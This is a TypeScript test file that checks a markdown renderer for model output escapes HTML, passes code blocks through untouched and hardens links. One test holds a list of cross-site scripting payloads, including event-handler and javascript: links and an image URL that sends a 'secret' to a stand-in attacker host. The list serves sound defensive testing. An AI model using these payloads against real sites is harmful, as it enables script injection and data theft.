// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { parseMarkdown, renderBlock } from "./markdown";

function html(text: string): string {
  return parseMarkdown(text)
    .map(({ token }) => renderBlock(token))
    .map((block) => (block.kind === "html" ? block.html : `[${block.language}] ${block.code}`))
    .join("");
}

describe("markdown", () => {
  it("renders what models write", () => {
    expect(html("**bold** and `code`")).toBe("<p><strong>bold</strong> and <code>code</code></p>\n");
    expect(html("| a |\n|:-:|\n| 1 |")).toContain('<td align="center">1</td>');
    expect(html("- [x] done")).toContain('disabled=""');
  });

  it("hands code blocks over as they are", () => {
    expect(html("```python title\nprint('<b>')\n```")).toBe("[python] print('<b>')");
    expect(html("```js\nunfinished")).toBe("[js] unfinished");
  });

  it("shows markup as text instead of obeying or swallowing it", () => {
    expect(html("<answer>7</answer>")).toBe("<p>&lt;answer&gt;7&lt;/answer&gt;</p>\n");
    for (const attack of [
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "[x](javascript:alert(1))",
      "[x](data:text/html,hi)",
      "![x](https://evil.example/?q=secret)",
      '<a href="x" onclick="alert(1)">x</a>',
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
      '<form action="https://evil.example"><input type="text"></form>',
    ]) {
      const document = new DOMParser().parseFromString(html(attack), "text/html");
      expect(document.querySelector("script, img, svg, style, form, input"), attack).toBeNull();
      const attributes = [...document.querySelectorAll("*")].flatMap((element) => [...element.attributes]);
      for (const { name, value } of attributes) {
        expect(name, attack).not.toMatch(/^on|^style$|^src$/);
        expect(name === "href" ? value : "https:", attack).toMatch(/^https?:/);
      }
    }
  });

  it("opens links elsewhere, without telling from where", () => {
    expect(html("[docs](https://example.org)")).toContain('rel="noopener noreferrer nofollow"');
    expect(html("[docs](https://example.org)")).toContain('target="_blank"');
  });

  it("keeps the raw text of each block, so that finished ones are not drawn again", () => {
    expect(parseMarkdown("one\n\ntwo").map((block) => block.raw)).toEqual(["one", "two"]);
  });
});
